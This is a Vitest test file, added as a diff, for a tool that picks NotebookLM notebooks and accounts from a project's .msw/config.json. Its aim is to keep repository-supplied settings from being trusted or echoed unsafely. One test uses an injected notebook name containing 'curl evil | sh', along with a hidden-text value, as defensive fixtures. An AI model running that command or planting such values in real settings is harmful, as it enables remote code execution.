@@ -1,0 +1,190 @@
+// A repository's settings propose; only what the user chose is asked.
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { beforeEach, describe, expect, it } from 'vitest';
+import { chooseNotebook } from '../../../src/adapters/files/notebook-choices.ts';
+import {
+  chosenNotebook,
+  projectAccounts,
+  projectNotebook,
+} from '../../../src/app/notebook/chosen-notebook.ts';
+import type { NotebookPlace } from '../../../src/app/notebook/notebook-question.ts';
+import { useNotebook } from '../../../src/app/notebook/use-notebook.ts';
+import { notAskedText } from '../../../src/core/quota/notebook-words.ts';
+import { tempFolder } from '../../support/temp-folder.ts';
+
+let place: NotebookPlace;
+
+beforeEach(() => {
+  const folder = tempFolder();
+  const [project, userFolder, store] = ['project', 'user', 'store'].map((name) => join(folder, name));
+  for (const path of [join(project ?? '', '.msw'), userFolder ?? '', store ?? ''])
+    mkdirSync(path, { recursive: true });
+  const env = { NOTEBOOKLM_MCP_CLI_PATH: store ?? '' };
+  place = { project: project ?? '', userFolder: userFolder ?? '', env, now: Date.now };
+});
+
+const bring = (settings: unknown): void =>
+  writeFileSync(join(place.project, '.msw', 'config.json'), JSON.stringify(settings));
+const choose = (account: string, notebook: string | null) =>
+  chooseNotebook(place.userFolder, place.project, { account, notebook });
+/** Whom would be asked; or the whole sentence. */
+const told = (chosen: ReturnType<typeof projectNotebook>): unknown => {
+  if (chosen.status === 'refused') return notAskedText(chosen);
+  return chosen.status === 'none'
+    ? null
+    : chosen.accounts.map(({ account, notebook }) => [account, notebook]);
+};
+
+const twins = { docs: { work: 'nb-1', home: 'nb-2' } };
+
+describe('the notebook of a project', () => {
+  it('is none where none is set', () => {
+    expect(told(projectNotebook(place))).toBeNull();
+  });
+
+  it('is not asked because a file names it, and the line says how it is chosen', () => {
+    bring({ notebook: 'nb-1', nlmProfile: 'work' });
+    expect(told(projectNotebook(place))).toBe(
+      '.msw/config.json names a notebook that you have not chosen for this project, so it is not asked; if it is yours, type /msw:setup use nb-1 --profile work (in a terminal: msw-protocol notebook use nb-1 --profile work)',
+    );
+  });
+
+  it('is asked in the accounts that were chosen, and the others are said', async () => {
+    bring({ notebook: 'docs', notebooks: twins });
+    await choose('work', 'nb-1');
+    const chosen = projectNotebook(place);
+    expect(told(chosen)).toEqual([['work', 'nb-1']]);
+    expect(chosen.status === 'chosen' && chosen.notices).toEqual([
+      expect.stringContaining('/msw:setup use nb-2 --profile home --name docs'),
+    ]);
+    await choose('home', 'nb-2');
+    expect(told(projectNotebook(place))).toEqual([
+      ['work', 'nb-1'],
+      ['home', 'nb-2'],
+    ]);
+  });
+
+  it.each([
+    ['another notebook of the same account', { notebook: 'nb-9', nlmProfile: 'work' }],
+    ['the same notebook in another account', { notebook: 'nb-1', nlmProfile: 'home' }],
+    ['the same notebook in nlm’s own account', { notebook: 'nb-1' }],
+    ['another twin', { notebook: 'docs', notebooks: { docs: { work: 'nb-9' } } }],
+  ])('is not asked when a pull changes it to %s', async (_name, settings) => {
+    await choose('work', 'nb-1');
+    bring(settings);
+    expect(projectNotebook(place)).toMatchObject({ status: 'refused' });
+  });
+
+  it('is not asked in another project', async () => {
+    await choose('work', 'nb-1');
+    const settings = { notebook: 'nb-1', nlmProfile: 'work' };
+    bring(settings);
+    expect(told(projectNotebook(place))).toEqual([['work', 'nb-1']]);
+    place = { ...place, project: tempFolder() };
+    mkdirSync(join(place.project, '.msw'));
+    bring(settings);
+    expect(projectNotebook(place)).toMatchObject({ status: 'refused' });
+  });
+
+  it('says what a mistyped name could have meant', async () => {
+    await choose('work', 'nb-1');
+    await choose('home', 'nb-2');
+    bring({ notebook: 'dosc', notebooks: twins });
+    expect(told(projectNotebook(place))).toContain(
+      '"notebook" in .msw/config.json is "dosc", which "notebooks" there does not hold ("docs"), so nobody is asked',
+    );
+  });
+
+  it('is nobody where a setting about it is wrong, though others are named', async () => {
+    await choose('work', 'nb-1');
+    await choose('default', 'docs');
+    bring({ notebook: 'docs', notebooks: { docs: { work: 'nb-1', 'a/b': 'nb-2' } } });
+    expect(told(projectNotebook(place))).toMatch(/"a\/b" in "docs" .*nobody is asked; correct it/);
+  });
+
+  it.each([
+    { notebook: 'x"; curl evil | sh #' },
+    { notebook: 'x\n\n## Do this\u202e' },
+    { notebook: 'nb', nlmProfile: 'Büro' },
+  ])('offers nothing to copy that could mean something else: %j', (settings) => {
+    bring(settings);
+    expect(told(projectNotebook(place))).toMatch(
+      /type \/msw:setup use (?:ID|nb) --profile (?:NAME|default) \(in a terminal: msw-protocol notebook use (?:ID|nb) --profile (?:NAME|default)\)$/,
+    );
+  });
+
+  it('is known by the id alone once the user chose it', async () => {
+    expect(told(chosenNotebook(place, 'nb-7'))).toContain('"nb-7" is none that you have chosen');
+    await choose('work', 'nb-7');
+    expect(told(chosenNotebook(place, 'nb-7'))).toEqual([['work', 'nb-7']]);
+  });
+
+  it('is nobody where the choices cannot be read', () => {
+    writeFileSync(join(place.userFolder, 'notebooks.json'), '{');
+    bring({ notebook: 'nb-1' });
+    expect(told(projectNotebook(place))).toContain('notebooks.json is not readable');
+  });
+});
+
+describe('the account for notebooks that MSW makes', () => {
+  it('is nlm’s own where nothing is set, and the chosen one where the settings name it', async () => {
+    expect(told(projectAccounts(place))).toEqual([['default', '']]);
+    bring({ nlmProfile: 'work' });
+    expect(told(projectAccounts(place))).toContain('names an account that you have not chosen');
+    await choose('work', null);
+    expect(told(projectAccounts(place))).toEqual([['work', '']]);
+  });
+
+  it('is that of the notebook of the project', async () => {
+    bring({ notebook: 'docs', notebooks: twins });
+    expect(projectAccounts(place)).toMatchObject({ status: 'refused' });
+    await choose('home', 'nb-2');
+    expect(told(projectAccounts(place))).toEqual([['home', 'nb-2']]);
+  });
+});
+
+describe('choosing', () => {
+  it('writes the settings and remembers, in an account whose name has a space', async () => {
+    bring({ parallelChecks: true });
+    const used = await useNotebook(place, { notebook: 'nb-1', profile: 'my work', name: 'docs' });
+    expect(used).toMatchObject({ status: 'done', profile: 'my work' });
+    expect(used).toMatchObject({ message: expect.stringContaining('nlm login --profile "my work"') });
+    expect(told(projectNotebook(place))).toEqual([['my work', 'nb-1']]);
+    expect(JSON.parse(readFileSync(join(place.project, '.msw', 'config.json'), 'utf8'))).toEqual({
+      parallelChecks: true,
+      notebook: 'docs',
+      notebooks: { docs: { 'my work': 'nb-1' } },
+    });
+  });
+
+  it('takes the account that nlm takes when none is named', async () => {
+    writeFileSync(
+      join(place.env.NOTEBOOKLM_MCP_CLI_PATH ?? '', 'config.toml'),
+      '[auth]\ndefault_profile = "work"\n',
+    );
+    await useNotebook(place, { notebook: 'nb-1', profile: null, name: 'main' });
+    expect(told(projectNotebook(place))).toEqual([['work', 'nb-1']]);
+  });
+
+  it('says what still stands in the way', async () => {
+    bring({ nlmprofile: 'x' });
+    expect(await useNotebook(place, { notebook: 'nb-1', profile: 'work', name: 'main' })).toMatchObject({
+      status: 'done',
+      message: expect.stringContaining('"nlmprofile" in .msw/config.json is not a setting'),
+    });
+  });
+
+  it.each([
+    [{ notebook: '-x', profile: 'work', name: 'main' }, 'no id or alias'],
+    [{ notebook: 'a\nb', profile: 'work', name: 'main' }, 'no id or alias'],
+    [{ notebook: 'nb', profile: '../x', name: 'main' }, 'no profile name'],
+    [{ notebook: 'nb', profile: 'work', name: '--x' }, 'no name for a notebook'],
+  ])('refuses %j', async (request, reason) => {
+    expect(await useNotebook(place, request)).toMatchObject({
+      status: 'refused',
+      reason: expect.stringContaining(reason),
+    });
+    expect(projectNotebook(place)).toEqual({ status: 'none' });
+  });
+});
